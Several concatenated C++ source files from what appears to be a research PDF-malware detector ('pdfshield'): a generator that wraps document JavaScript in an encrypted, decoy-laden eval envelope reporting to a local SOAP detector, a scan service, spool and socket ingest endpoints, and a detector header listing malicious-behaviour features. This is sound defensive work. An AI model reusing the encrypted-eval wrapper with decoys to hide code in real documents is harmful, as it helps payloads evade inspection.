  const std::string outv = rng.identifier(5);
  const std::string buf = rng.identifier(5);
  const std::string bits = rng.identifier(5);
  const std::string idx = rng.identifier(4);
  const std::string code = rng.identifier(5);
  const std::string res = rng.identifier(5);
  const std::string plain = rng.identifier(5);

  std::string src;
  src += "function " + fn_name + "(" + input + ", " + keyv + ") {\n";
  src += "  var " + alpha +
         " = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789"
         "+/';\n";
  src += "  var " + outv + " = []; var " + buf + " = 0; var " + bits +
         " = 0; var " + idx + ";\n";
  src += "  for (" + idx + " = 0; " + idx + " < " + input + ".length; " + idx +
         "++) {\n";
  src += "    var " + code + " = " + alpha + ".indexOf(" + input + ".charAt(" +
         idx + "));\n";
  src += "    if (" + code + " < 0) continue;\n";
  src += "    " + buf + " = (" + buf + " << 6) | " + code + "; " + bits +
         " += 6;\n";
  src += "    if (" + bits + " >= 8) { " + bits + " -= 8; " + outv + "[" +
         outv + ".length] = String.fromCharCode((" + buf + " >> " + bits +
         ") & 255); }\n";
  src += "  }\n";
  src += "  var " + plain + " = " + outv + ".join('');\n";
  src += "  var " + res + " = [];\n";
  src += "  for (" + idx + " = 0; " + idx + " < " + plain + ".length; " + idx +
         "++) {\n";
  src += "    " + res + "[" + res + ".length] = String.fromCharCode(" + plain +
         ".charCodeAt(" + idx + ") ^ " + keyv + ".charCodeAt(" + idx + " % " +
         keyv + ".length));\n";
  src += "  }\n";
  src += "  return " + res + ".join('');\n";
  src += "}\n";
  return src;
}

std::string soap_call(const std::string& url, const std::string& op,
                      const std::string& key_var) {
  return "SOAP.request({cURL: " + js_quote(url) + ", oRequest: {op: '" + op +
         "', key: " + key_var + "}});\n";
}

std::string junk_statement(support::Rng& rng) {
  switch (rng.below(3)) {
    case 0:
      return "var " + rng.identifier(7) + " = " +
             std::to_string(rng.below(100000)) + ";\n";
    case 1:
      return "var " + rng.identifier(7) + " = '" + rng.hex_string(8) + "';\n";
    default:
      return "var " + rng.identifier(7) + " = [" +
             std::to_string(rng.below(100)) + ", " +
             std::to_string(rng.below(100)) + "];\n";
  }
}

}  // namespace

std::string generate_monitor_wrapper(const std::string& original_source,
                                     const InstrumentationKey& key,
                                     EnvelopeRole role, support::Rng& rng,
                                     const MonitorCodegenOptions& options) {
  const std::string combined = key.combined();
  const std::string key_var = rng.identifier(8);
  const std::string dec_fn = rng.identifier(8);
  const std::string err_var = rng.identifier(6);
  const std::string payload = encrypt_script(original_source, combined);

  const bool enter = role == EnvelopeRole::kFull || role == EnvelopeRole::kEnterOnly;
  const bool exit = role == EnvelopeRole::kFull || role == EnvelopeRole::kExitOnly;

  std::string src;
  if (options.junk_statements) src += junk_statement(rng);
  src += "var " + key_var + " = " + js_quote(combined) + ";\n";
  src += decryptor_source(dec_fn, rng);

  // Decoy copies: same shape, fresh names, fake keys — a memory scan for
  // "the function near the key" finds several equally plausible candidates.
  for (int i = 0; i < options.decoy_count; ++i) {
    const std::string decoy_key_var = rng.identifier(8);
    src += "var " + decoy_key_var + " = " +
           js_quote(rng.hex_string(16) + "-" + rng.hex_string(16)) + ";\n";
    src += decryptor_source(rng.identifier(8), rng);
  }
  if (options.junk_statements) src += junk_statement(rng);

  if (enter) src += soap_call(options.detector_url, "enter", key_var);
  // The epilogue must run even when the payload throws; a try/catch is the
  // portable finally here (rethrow is deliberately omitted: the detector,
  // not the document, decides what an error means).
  src += "try { eval(" + dec_fn + "(" + js_quote(payload) + ", " + key_var +
         ")); } catch (" + err_var + ") {}\n";
  if (exit) src += soap_call(options.detector_url, "exit", key_var);
  return src;
}

}  // namespace pdfshield::core
