#include "core/serve_endpoints.hpp"

#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <algorithm>
#include <cerrno>
#include <cstring>
#include <future>
#include <system_error>
#include <utility>

#include "support/error.hpp"
#include "support/mmap_file.hpp"

namespace pdfshield::core::serve {

namespace fs = std::filesystem;

// ---------------------------------------------------------------------------
// SpoolWatcher

SpoolWatcher::SpoolWatcher(ScanService& service, fs::path spool_dir,
                           SpoolOptions options)
    : service_(service),
      dir_(std::move(spool_dir)),
      done_dir_(dir_ / ".done"),
      failed_dir_(dir_ / ".failed"),
      options_(std::move(options)) {}

SpoolWatcher::~SpoolWatcher() { stop(); }

void SpoolWatcher::start() {
  if (running_.exchange(true)) return;
  std::error_code ec;
  fs::create_directories(dir_, ec);
  if (!options_.delete_processed) fs::create_directories(done_dir_, ec);
  fs::create_directories(failed_dir_, ec);
  thread_ = std::thread([this] {
    while (running_.load(std::memory_order_relaxed)) {
      poll_once();
      std::this_thread::sleep_for(std::chrono::milliseconds(options_.poll_ms));
    }
  });
}

void SpoolWatcher::stop() {
  if (!running_.exchange(false)) return;
  if (thread_.joinable()) thread_.join();
}

void SpoolWatcher::dispose(const fs::path& file, bool failed) {
  // Worker threads race the poll loop and each other here; every filesystem
  // miss (producer already moved it, duplicate rename) is benign, so all
  // operations go through the non-throwing overloads.
  std::error_code ec;
  if (failed) {
    fs::rename(file, failed_dir_ / file.filename(), ec);
    if (ec) fs::remove(file, ec);
    return;
  }
  if (options_.delete_processed) {
    fs::remove(file, ec);
  } else {
    fs::rename(file, done_dir_ / file.filename(), ec);
    if (ec) fs::remove(file, ec);
  }
}

std::size_t SpoolWatcher::poll_once() {
  // Snapshot + sort so a steady producer sees deterministic intake order.
  std::vector<fs::path> files;
  std::error_code ec;
  for (fs::directory_iterator it(dir_, ec), end; !ec && it != end;
       it.increment(ec)) {
    const fs::path& p = it->path();
    const std::string fname = p.filename().string();
    if (fname.empty() || fname.front() == '.') continue;  // .done/.failed
    if (!it->is_regular_file(ec)) continue;
    files.push_back(p);
  }
  std::sort(files.begin(), files.end());

  std::size_t submitted = 0;
  for (const fs::path& file : files) {
    const std::string name = file.filename().string();
    {
      std::lock_guard<std::mutex> lock(inflight_mutex_);
      if (!inflight_.insert(name).second) continue;  // already submitted
    }

    std::shared_ptr<support::MappedFile> mapped;
    try {
      mapped = support::MappedFile::map(file);
    } catch (const support::Error&) {
      // Vanished between listing and mapping (producer withdrew it) —
      // forget it and let the next poll see whatever replaced it.
      std::lock_guard<std::mutex> lock(inflight_mutex_);
      inflight_.erase(name);
      continue;
    }

    const support::BytesView data = mapped->view();
    ++submitted;
    files_submitted_.fetch_add(1, std::memory_order_relaxed);
    service_.submit(
        name, data, std::move(mapped),
        [this, file, name](const ScanResponse& response) {
          if (!response.accepted && response.reject_reason == "overloaded") {
            // Transient: leave the file in place — the spool directory is
            // the retry queue, the next poll resubmits it.
            std::lock_guard<std::mutex> lock(inflight_mutex_);
            inflight_.erase(name);
            return;
          }
          if (options_.on_response) options_.on_response(response);
          dispose(file, /*failed=*/!response.accepted);
          std::lock_guard<std::mutex> lock(inflight_mutex_);
          inflight_.erase(name);
        });
  }
  return submitted;
}

// ---------------------------------------------------------------------------
// Socket framing helpers

namespace {

bool read_full(int fd, void* buf, std::size_t len) {
  auto* p = static_cast<std::uint8_t*>(buf);
  std::size_t got = 0;
  while (got < len) {
    const ssize_t n = ::read(fd, p + got, len - got);
    if (n == 0) return false;  // peer closed
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    got += static_cast<std::size_t>(n);
  }
  return true;
}

bool write_full(int fd, const void* buf, std::size_t len) {
  const auto* p = static_cast<const std::uint8_t*>(buf);
  std::size_t sent = 0;
  while (sent < len) {
    const ssize_t n = ::write(fd, p + sent, len - sent);
    if (n < 0) {
      if (errno == EINTR) continue;
      return false;
    }
    sent += static_cast<std::size_t>(n);
  }
  return true;
}

int connect_unix(const std::string& path) {
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path.size() >= sizeof(addr.sun_path)) {
    throw support::Error("socket path too long: " + path);
  }
  std::memcpy(addr.sun_path, path.c_str(), path.size() + 1);
  const int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (fd < 0) {
    throw support::Error(std::string("socket: ") + std::strerror(errno));
  }
  if (::connect(fd, reinterpret_cast<const sockaddr*>(&addr),
                sizeof(addr)) != 0) {
    const int err = errno;
    ::close(fd);
    throw support::Error("cannot connect to " + path + ": " +
                         std::strerror(err));
  }
  return fd;
}

}  // namespace

// ---------------------------------------------------------------------------
// SocketServer

SocketServer::SocketServer(ScanService& service, std::string socket_path)
    : service_(service), path_(std::move(socket_path)) {}

SocketServer::~SocketServer() { stop(); }

void SocketServer::start() {
  if (running_.exchange(true)) return;
  sockaddr_un addr{};
  addr.sun_family = AF_UNIX;
  if (path_.size() >= sizeof(addr.sun_path)) {
    running_.store(false);
    throw support::Error("socket path too long: " + path_);
  }
  std::memcpy(addr.sun_path, path_.c_str(), path_.size() + 1);

  listen_fd_ = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
  if (listen_fd_ < 0) {
    running_.store(false);
    throw support::Error(std::string("socket: ") + std::strerror(errno));
  }
  ::unlink(path_.c_str());  // stale socket from a previous run
  if (::bind(listen_fd_, reinterpret_cast<const sockaddr*>(&addr),
             sizeof(addr)) != 0 ||
      ::listen(listen_fd_, 16) != 0) {
    const int err = errno;
    ::close(listen_fd_);
    listen_fd_ = -1;
    running_.store(false);
    throw support::Error("cannot listen on " + path_ + ": " +
                         std::strerror(err));
  }
  accept_thread_ = std::thread([this] { accept_loop(); });
}

void SocketServer::stop() {
  if (!running_.exchange(false)) return;
  if (listen_fd_ >= 0) {
    ::shutdown(listen_fd_, SHUT_RDWR);
    ::close(listen_fd_);
    listen_fd_ = -1;
  }
  if (accept_thread_.joinable()) accept_thread_.join();
  {
    // Unblock connection threads parked in read(); they close their own
    // fds on the way out.
    std::lock_guard<std::mutex> lock(conn_mutex_);
    for (int fd : conn_fds_) {
      if (fd >= 0) ::shutdown(fd, SHUT_RDWR);
    }
  }
  for (std::thread& t : conn_threads_) {
    if (t.joinable()) t.join();
  }
  conn_threads_.clear();
  conn_fds_.clear();
  ::unlink(path_.c_str());
}

void SocketServer::accept_loop() {
  while (running_.load(std::memory_order_relaxed)) {
    const int fd = ::accept(listen_fd_, nullptr, nullptr);
    if (fd < 0) {
      if (errno == EINTR) continue;
      break;  // listen socket closed by stop()
    }
    std::lock_guard<std::mutex> lock(conn_mutex_);
    const std::size_t slot = conn_fds_.size();
    conn_fds_.push_back(fd);
    conn_threads_.emplace_back([this, fd, slot] {
      serve_connection(fd);
      std::lock_guard<std::mutex> guard(conn_mutex_);
      ::close(fd);
      conn_fds_[slot] = -1;
    });
  }
}

void SocketServer::serve_connection(int fd) {
  while (running_.load(std::memory_order_relaxed)) {
    std::uint32_t name_len = 0;
    std::uint64_t data_len = 0;
    if (!read_full(fd, &name_len, sizeof(name_len))) return;
    if (!read_full(fd, &data_len, sizeof(data_len))) return;
    if (name_len == 0 || name_len > kMaxNameLen || data_len > kMaxDataLen) {
      return;  // protocol violation: drop the connection
    }
    std::string name(name_len, '\0');
    if (!read_full(fd, name.data(), name_len)) return;
    support::Bytes data(static_cast<std::size_t>(data_len));
    if (data_len > 0 && !read_full(fd, data.data(), data.size())) return;

    // The connection is synchronous: one outstanding request, answered in
    // order. Parallelism comes from concurrent connections, and the wait
    // here is exactly the client's wait.
    auto answered = std::make_shared<std::promise<std::string>>();
    std::future<std::string> line = answered->get_future();
    service_.submit(std::move(name), std::move(data),
                    [answered](const ScanResponse& response) {
                      answered->set_value(response.to_jsonl());
                    });
    const std::string json = line.get();
    const auto json_len = static_cast<std::uint32_t>(json.size());
    if (!write_full(fd, &json_len, sizeof(json_len))) return;
    if (!write_full(fd, json.data(), json.size())) return;
  }
}

// ---------------------------------------------------------------------------
// Client

std::string socket_scan(const std::string& socket_path, std::string_view name,
                        support::BytesView data) {
  if (name.empty() || name.size() > kMaxNameLen) {
    throw support::Error("invalid document name for socket scan");
  }
  if (data.size() > kMaxDataLen) {
    throw support::Error("document too large for socket scan");
  }
  const int fd = connect_unix(socket_path);
  const auto name_len = static_cast<std::uint32_t>(name.size());
  const auto data_len = static_cast<std::uint64_t>(data.size());
  bool ok = write_full(fd, &name_len, sizeof(name_len)) &&
            write_full(fd, &data_len, sizeof(data_len)) &&
            write_full(fd, name.data(), name.size()) &&
            (data.empty() || write_full(fd, data.data(), data.size()));
  std::uint32_t json_len = 0;
  ok = ok && read_full(fd, &json_len, sizeof(json_len));
  std::string json(json_len, '\0');
  ok = ok && (json_len == 0 || read_full(fd, json.data(), json.size()));
  ::close(fd);
  if (!ok) {
    throw support::Error("socket scan failed: server closed the connection");
  }
  return json;
}

}  // namespace pdfshield::core::serve
