// Runtime detection and lightweight confinement (paper §III-D/E, Fig. 4).
//
// The detector is a stand-alone component that
//   * installs IAT hooks on PDF-reader processes through an AppInit-style
//     trampoline (hook events arrive over the simulated hook channel);
//   * runs the tiny SOAP server the in-document context monitoring code
//     reports JS-context ENTER/EXIT to, authenticated by the two-part key;
//   * keeps one malscore per open unknown document: in-JS operations feed
//     only the current document, out-of-JS operations feed every active
//     one; malscore = w1 * Σ(F1..F7) + w2 * Σ(F8..F13)   (Eq. 1);
//   * enforces the Table-III confinement rules: dropped files tracked and
//     quarantined on alert, process creation vetoed and re-run inside a
//     Sandboxie-style jail, DLL injection always vetoed;
//   * maintains the persistent cross-document executable list that links
//     cooperating malicious documents;
//   * treats any malformed/unauthenticated SOAP message as an attack
//     (zero tolerance, §IV "Mimicry Attack").
#pragma once

#include <map>
#include <optional>
#include <set>
#include <string>
#include <vector>

#include "core/keys.hpp"
#include "core/static_features.hpp"
#include "js/value.hpp"
#include "reader/reader_sim.hpp"
#include "sys/kernel.hpp"

namespace pdfshield::core {

/// The thirteen features of Eq. 1. F1–F5 static, F6/F7 out-of-JS-context,
/// F8–F13 in-JS-context (Table II order).
enum class Feature {
  kF1_JsChainRatio = 1,
  kF2_HeaderObfuscation,
  kF3_HexCode,
  kF4_EmptyObjects,
  kF5_EncodingLevels,
  kF6_OutJsProcessCreation,
  kF7_OutJsDllInjection,
  kF8_MemoryConsumption,
  kF9_NetworkAccess,
  kF10_MappedMemorySearch,
  kF11_MalwareDropping,
  kF12_ProcessCreation,
  kF13_DllInjection,
};

std::string feature_name(Feature f);

struct DetectorConfig {
  /// How the detector hooks the reader's API surface. The paper's
  /// prototype uses IAT hooks (simple, bypassable via GetProcAddress /
  /// direct syscalls); kernel-mode hooks are its stated future hardening.
  enum class HookMode { kIat, kKernelMode };
  HookMode hook_mode = HookMode::kIat;

  double w1 = 1.0;
  double w2 = 9.0;
  double threshold = 10.0;
  std::uint64_t memory_threshold = 100ull * 1024 * 1024;  ///< F8: 100 MB
  std::string soap_url = "http://127.0.0.1:8777/pdfshield";
  /// Benign helper programs commonly spawned by readers (whitelist for
  /// out-of-JS process creation).
  std::vector<std::string> process_whitelist = {"WerFault.exe", "AdobeARM.exe",
                                                "acrotray.exe"};

  /// Caps on per-document accumulation so a hostile document cannot
  /// balloon detector memory (a JS loop dropping files / spamming forged
  /// SOAP messages). Overflow is explicit: a marker line ends the evidence
  /// trail and the DocumentState overflow counters record what was shed.
  std::size_t max_evidence_entries = 256;
  std::size_t max_dropped_files = 512;
};

/// Everything the detector knows about one instrumented document.
struct DocumentState {
  std::string name;
  StaticFeatures static_features;
  std::set<Feature> runtime_features;
  bool active = false;       ///< >= 1 in-JS operation observed
  bool in_js = false;        ///< currently inside a JS context envelope
  bool alerted = false;
  bool fake_message = false; ///< unauthenticated SOAP traffic seen
  std::uint64_t memory_at_enter = 0;
  std::vector<std::string> dropped_files;      ///< paths dropped in-JS (capped)
  std::vector<int> sandboxed_children;         ///< pids detector confined
  std::vector<std::string> injected_dlls;      ///< blocked injection targets
  std::vector<std::string> evidence;           ///< human-readable trail (capped)
  std::size_t evidence_overflow = 0;       ///< evidence lines shed at the cap
  std::size_t dropped_files_overflow = 0;  ///< drop records shed at the cap
};

struct Verdict {
  bool malicious = false;
  double malscore = 0.0;
  std::vector<std::string> evidence;
};

class RuntimeDetector {
 public:
  RuntimeDetector(sys::Kernel& kernel, support::Rng& rng,
                  DetectorConfig config = {});

  /// Deployment with a pre-agreed detector id (the batch scanner's
  /// detonation mode: the front-end minted keys under this id already).
  RuntimeDetector(sys::Kernel& kernel, DetectorConfig config,
                  std::string detector_id);

  const std::string& detector_id() const { return detector_id_; }
  const DetectorConfig& config() const { return config_; }

  /// Front-end hand-off: associates a per-document key with its name and
  /// static features.
  void register_document(const InstrumentationKey& key, const std::string& name,
                         const StaticFeatures& features);

  /// Attaches to a reader: installs the API hooks on its process and
  /// registers the SOAP endpoint.
  void attach(reader::ReaderSim& reader);

  /// SOAP entry point (wired into the reader by attach()).
  js::Value handle_soap(const js::Value& payload);

  /// Hook-channel disconnect: the reader crashed. Finalizes the document
  /// that was in JS context (its EXIT message will never arrive) — this is
  /// how spray-then-crash samples still get their memory feature scored.
  void on_reader_crash();

  /// Current verdict for a document key (Eq. 1 against current state).
  Verdict verdict(const InstrumentationKey& key) const;
  /// Verdict by document name (first match).
  Verdict verdict_by_name(const std::string& name) const;

  const DocumentState* state(const InstrumentationKey& key) const;

  /// Persistent list of executables downloaded in JS context (survives
  /// document closes; links cross-document attacks).
  const std::set<std::string>& downloaded_executables() const {
    return executable_list_;
  }

  /// Alerts raised so far (document names).
  const std::vector<std::string>& alerts() const { return alerts_; }

 private:
  void on_api_event(const sys::ApiEvent& event, bool blocked);
  sys::ApiOutcome hook_decision(const sys::ApiEvent& event);
  void record_in_js(DocumentState& doc, Feature f, const std::string& why);
  void record_out_js(Feature f, const std::string& why);
  void note_evidence(DocumentState& doc, std::string line);
  void note_dropped_file(DocumentState& doc, const std::string& path);
  void confine(const std::string& doc_name, const char* action,
               const std::string& target);
  void check_memory(DocumentState& doc);
  void evaluate(const std::string& key_text, DocumentState& doc);
  void raise_alert(const std::string& key_text, DocumentState& doc);
  double malscore(const DocumentState& doc) const;
  DocumentState* current_in_js_doc();

  sys::Kernel& kernel_;
  DetectorConfig config_;
  std::string detector_id_;
  std::map<std::string, DocumentState> docs_;  ///< by combined key text
  std::string current_js_key_;                 ///< combined key, "" if none
  std::set<std::string> executable_list_;      ///< persistent
  std::vector<std::string> alerts_;
  int reader_pid_ = 0;
};

}  // namespace pdfshield::core
