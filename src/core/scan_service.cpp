#include "core/scan_service.hpp"

#include <utility>

#include "core/keys.hpp"
#include "support/rng.hpp"
#include "support/strings.hpp"
#include "trace/trace.hpp"

namespace pdfshield::core {

namespace {

constexpr std::size_t kDefaultInflightBytes = 256 * 1024 * 1024;

}  // namespace

ScanService::ScanService(ServeOptions options) : options_(std::move(options)) {
  if (options_.jobs == 0) options_.jobs = 1;
  if (options_.max_inflight_docs == 0) {
    options_.max_inflight_docs = 8 * options_.jobs;
  }
  if (options_.max_inflight_bytes == 0) {
    options_.max_inflight_bytes = kDefaultInflightBytes;
  }
  if (options_.max_doc_bytes == 0) {
    options_.max_doc_bytes = options_.max_inflight_bytes;
  }
  if (options_.degrade_depth == 0) options_.degrade_depth = 4 * options_.jobs;
  if (options_.restore_depth == 0) {
    options_.restore_depth = options_.degrade_depth / 2;
  }
  if (options_.detector_id.empty()) {
    // Same fixed seed as the batch scanner: a default serve deployment and
    // a default batch run produce directly comparable verdicts.
    support::Rng rng(0x7000df5e1dbafc00ULL);
    options_.detector_id = generate_detector_id(rng);
  }

  ctx_.keep_output = false;
  ctx_.detonate = options_.detonate;
  ctx_.session = options_.detector_id;
  if (!options_.trace_path.empty()) {
    ctx_.trace_sink = trace::JsonlSink::open(options_.trace_path);
    ctx_.counters = std::make_shared<trace::CounterSink>();
    recorder_ = std::make_unique<trace::Recorder>(options_.detector_id, 0);
    recorder_->add_sink(ctx_.trace_sink);
    recorder_->add_sink(ctx_.counters);
  }

  FrontEndOptions analyzing = options_.frontend;
  analyzing.analyze_js = true;
  frontends_.reserve(options_.jobs);
  frontends_analyzing_.reserve(options_.jobs);
  arenas_.reserve(options_.jobs);
  for (std::size_t i = 0; i < options_.jobs; ++i) {
    frontends_.emplace_back(options_.detector_id, options_.frontend);
    frontends_analyzing_.emplace_back(options_.detector_id, analyzing);
    arenas_.push_back(std::make_shared<support::Arena>());
  }

  if (options_.force_degraded) degraded_.store(true);

  // The pool's own backpressure must never engage: admission control is
  // the bound, and an open-loop submitter that got past admission must
  // not block. Capacity strictly above max in-flight guarantees it.
  pool_ = std::make_unique<support::WorkStealingPool>(
      options_.jobs, options_.max_inflight_docs + options_.jobs + 1);
}

ScanService::~ScanService() {
  // Joining the pool drains every admitted document; after this, worker
  // callbacks can no longer touch the members destroyed below.
  pool_.reset();
}

bool ScanService::submit(std::string name, support::BytesView data,
                         std::shared_ptr<const void> pin, Callback done) {
  submitted_.fetch_add(1, std::memory_order_relaxed);
  const auto submitted_at = std::chrono::steady_clock::now();

  std::string reject_reason;
  std::size_t inflight_docs = 0;
  std::size_t inflight_bytes = 0;
  if (data.size() > options_.max_doc_bytes) {
    reject_reason = "oversized";
  } else {
    std::lock_guard<std::mutex> lock(admission_mutex_);
    if (inflight_docs_ >= options_.max_inflight_docs ||
        inflight_bytes_ + data.size() > options_.max_inflight_bytes) {
      reject_reason = "overloaded";
      inflight_docs = inflight_docs_;
      inflight_bytes = inflight_bytes_;
    } else {
      ++inflight_docs_;
      inflight_bytes_ += data.size();
      inflight_docs = inflight_docs_;
      inflight_bytes = inflight_bytes_;
    }
  }

  if (recorder_) {
    recorder_->record_for(
        name, trace::Admission{reject_reason.empty(), reject_reason,
                               inflight_docs, inflight_bytes});
  }
  if (!reject_reason.empty()) {
    rejected_.fetch_add(1, std::memory_order_relaxed);
    ScanResponse response;
    response.name = std::move(name);
    response.accepted = false;
    response.reject_reason = std::move(reject_reason);
    response.latency_s =
        std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                      submitted_at)
            .count();
    done(response);
    return false;
  }

  accepted_.fetch_add(1, std::memory_order_relaxed);
  const std::size_t backlog =
      backlog_.fetch_add(1, std::memory_order_relaxed) + 1;
  update_degradation(backlog);

  pool_->submit([this, name = std::move(name), data, pin = std::move(pin),
                 done = std::move(done), submitted_at]() mutable {
    const auto worker = static_cast<std::size_t>(
        support::WorkStealingPool::current_worker());
    note_started();
    run_request(worker, name, data, submitted_at, done);
    pin.reset();
  });
  return true;
}

bool ScanService::submit(std::string name, support::Bytes data,
                         Callback done) {
  auto owned = std::make_shared<support::Bytes>(std::move(data));
  const support::BytesView view(owned->data(), owned->size());
  return submit(std::move(name), view, std::move(owned), std::move(done));
}

void ScanService::note_started() {
  const std::size_t backlog =
      backlog_.fetch_sub(1, std::memory_order_relaxed) - 1;
  update_degradation(backlog);
}

void ScanService::update_degradation(std::size_t backlog) {
  if (options_.force_degraded) return;  // pinned by configuration
  std::lock_guard<std::mutex> lock(admission_mutex_);
  const bool degraded = degraded_.load(std::memory_order_relaxed);
  if (!degraded && backlog >= options_.degrade_depth) {
    degraded_.store(true, std::memory_order_relaxed);
    degrade_enters_.fetch_add(1, std::memory_order_relaxed);
    if (recorder_) {
      recorder_->record(trace::Degradation{true, backlog});
    }
  } else if (degraded && backlog <= options_.restore_depth) {
    degraded_.store(false, std::memory_order_relaxed);
    if (recorder_) {
      recorder_->record(trace::Degradation{false, backlog});
    }
  }
}

void ScanService::run_request(
    std::size_t worker, const std::string& name, support::BytesView data,
    std::chrono::steady_clock::time_point submitted_at, const Callback& done) {
  const bool degraded_now = degraded_.load(std::memory_order_relaxed);
  const bool prefilter = degraded_now || options_.static_prefilter;

  BatchRunContext ctx = ctx_;
  ctx.static_prefilter = prefilter;
  const FrontEnd& frontend =
      prefilter ? frontends_analyzing_[worker] : frontends_[worker];
  const support::ArenaHandle& arena = arenas_[worker];

  ScanResponse response;
  response.degraded = degraded_now;
  response.doc = run_document(frontend, name, data, ctx, arena);
  response.name = name;
  response.accepted = true;
  // The FrontEndResult (the only other arena owner) died inside
  // run_document; retained chunks make the next document on this worker
  // allocation-free up to the high-water mark — the serve steady state.
  if (arena && arena.use_count() == 1) arena->reset();

  // A statically skipped document never detonated, so nothing emitted a
  // closing verdict for it; put its static-clean verdict on the spine so
  // a trace replay accounts for every admitted document.
  if (recorder_ && response.doc.static_skipped) {
    recorder_->record_for(name, trace::DocVerdict{"clean-static", 0.0,
                                                  /*alerted=*/false});
  }

  completed_.fetch_add(1, std::memory_order_relaxed);
  if (!response.doc.ok) errors_.fetch_add(1, std::memory_order_relaxed);
  if (response.doc.malicious) {
    malicious_.fetch_add(1, std::memory_order_relaxed);
  }
  if (response.doc.static_skipped) {
    static_skipped_.fetch_add(1, std::memory_order_relaxed);
  }
  if (degraded_now) degraded_docs_.fetch_add(1, std::memory_order_relaxed);

  {
    std::lock_guard<std::mutex> lock(admission_mutex_);
    --inflight_docs_;
    inflight_bytes_ -= data.size();
  }

  response.latency_s =
      std::chrono::duration<double>(std::chrono::steady_clock::now() -
                                    submitted_at)
          .count();
  done(response);
}

void ScanService::drain() { pool_->wait_idle(); }

ServeStats ScanService::stats() const {
  ServeStats s;
  s.submitted = submitted_.load(std::memory_order_relaxed);
  s.accepted = accepted_.load(std::memory_order_relaxed);
  s.rejected = rejected_.load(std::memory_order_relaxed);
  s.completed = completed_.load(std::memory_order_relaxed);
  s.errors = errors_.load(std::memory_order_relaxed);
  s.malicious = malicious_.load(std::memory_order_relaxed);
  s.static_skipped = static_skipped_.load(std::memory_order_relaxed);
  s.degraded_docs = degraded_docs_.load(std::memory_order_relaxed);
  s.degrade_enters = degrade_enters_.load(std::memory_order_relaxed);
  s.steals = pool_->steals();
  s.degraded_now = degraded_.load(std::memory_order_relaxed);
  return s;
}

std::string ScanResponse::to_jsonl() const {
  std::string out;
  out.reserve(192);
  out += "{\"name\":";
  trace::append_json_string(out, name);
  out += ",\"accepted\":";
  out += accepted ? "true" : "false";
  if (!accepted) {
    out += ",\"rejected\":";
    trace::append_json_string(out, reject_reason);
    out += '}';
    return out;
  }
  out += ",\"ok\":";
  out += doc.ok ? "true" : "false";
  if (!doc.error.empty()) {
    out += ",\"error\":";
    trace::append_json_string(out, doc.error);
  }
  out += ",\"input_bytes\":" + std::to_string(doc.input_bytes);
  if (doc.ok) {
    out += ",\"output_crc32\":" + std::to_string(doc.output_crc32);
    out += ",\"suspicious\":";
    out += doc.suspicious ? "true" : "false";
    if (doc.detonated) {
      out += ",\"malicious\":";
      out += doc.malicious ? "true" : "false";
      out += ",\"malscore\":" + support::format_double(doc.malscore, 6);
    }
    if (doc.static_skipped) out += ",\"static_skipped\":true";
  }
  if (degraded) out += ",\"degraded\":true";
  out += ",\"latency_s\":" + support::format_double(latency_s, 6);
  out += '}';
  return out;
}

}  // namespace pdfshield::core
