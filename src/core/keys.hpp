// The two-part random key protecting the SOAP channel (paper §III-C):
// Detector ID (fixed per installation, filters out foreign instrumented
// documents) ∥ Instrumentation Key (fresh per document, identifies which
// open document is speaking).
#pragma once

#include <optional>
#include <string>

#include "support/rng.hpp"

namespace pdfshield::core {

struct InstrumentationKey {
  std::string detector_id;   ///< 16 hex chars, per installation.
  std::string document_key;  ///< 16 hex chars, per instrumented document.

  std::string combined() const { return detector_id + "-" + document_key; }

  /// Parses "detector-document"; nullopt when malformed.
  static std::optional<InstrumentationKey> parse(const std::string& text);

  friend bool operator==(const InstrumentationKey&,
                         const InstrumentationKey&) = default;
};

/// Generates a fresh per-installation detector id.
std::string generate_detector_id(support::Rng& rng);

/// Generates a fresh per-document key under a detector id.
InstrumentationKey generate_document_key(support::Rng& rng,
                                         const std::string& detector_id);

}  // namespace pdfshield::core
