// Ingest endpoints for the serve daemon: a watched spool directory and a
// length-prefixed local-socket (AF_UNIX) protocol. Both are thin shims —
// every admission, scheduling and verdict decision lives in ScanService;
// the endpoints only move bytes in and JSONL answers out.
//
// Spool contract: producers write-then-rename documents into the spool
// root. The watcher maps each file (zero-copy — workers parse straight
// out of the page cache), submits it, and disposes of it by the outcome:
// completed scans move to `<spool>/.done` (or are deleted), permanent
// rejections ("oversized") move to `<spool>/.failed`, and "overloaded"
// rejections stay in place — the directory itself is the retry queue, so
// overload sheds work without losing it.
//
// Socket protocol (little-endian), one request per round-trip:
//   request:  u32 name_len | u64 data_len | name bytes | document bytes
//   response: u32 json_len | one ScanResponse JSON line
// A connection handles requests sequentially; concurrency comes from
// opening more connections. Malformed frames (name_len > 4096,
// data_len > 1 GiB) terminate the connection.
#pragma once

#include <atomic>
#include <cstdint>
#include <filesystem>
#include <functional>
#include <mutex>
#include <string>
#include <thread>
#include <unordered_set>
#include <vector>

#include "core/scan_service.hpp"
#include "support/bytes.hpp"

namespace pdfshield::core::serve {

inline constexpr std::uint32_t kMaxNameLen = 4096;
inline constexpr std::uint64_t kMaxDataLen = 1ULL << 30;

struct SpoolOptions {
  int poll_ms = 50;
  /// Delete processed files instead of moving them to `<spool>/.done`.
  bool delete_processed = false;
  /// Called with every response (completed or permanently rejected) —
  /// the CLI appends these to its responses JSONL. May be null. Runs on
  /// worker threads; the watcher serializes nothing here.
  std::function<void(const ScanResponse&)> on_response;
};

/// Polls a spool directory and feeds every regular file through the
/// service via mmap. One background thread; start() begins watching,
/// stop() halts the poll loop (in-flight documents drain with the
/// service, not the watcher).
class SpoolWatcher {
 public:
  SpoolWatcher(ScanService& service, std::filesystem::path spool_dir,
               SpoolOptions options = {});
  ~SpoolWatcher();

  SpoolWatcher(const SpoolWatcher&) = delete;
  SpoolWatcher& operator=(const SpoolWatcher&) = delete;

  void start();
  void stop();

  /// One synchronous pass over the spool (also called by the poll loop);
  /// returns how many files were submitted. Exposed so tests and
  /// drain-once CLI modes can pump the spool without the thread.
  std::size_t poll_once();

  std::uint64_t files_submitted() const {
    return files_submitted_.load(std::memory_order_relaxed);
  }

 private:
  void dispose(const std::filesystem::path& file, bool failed);

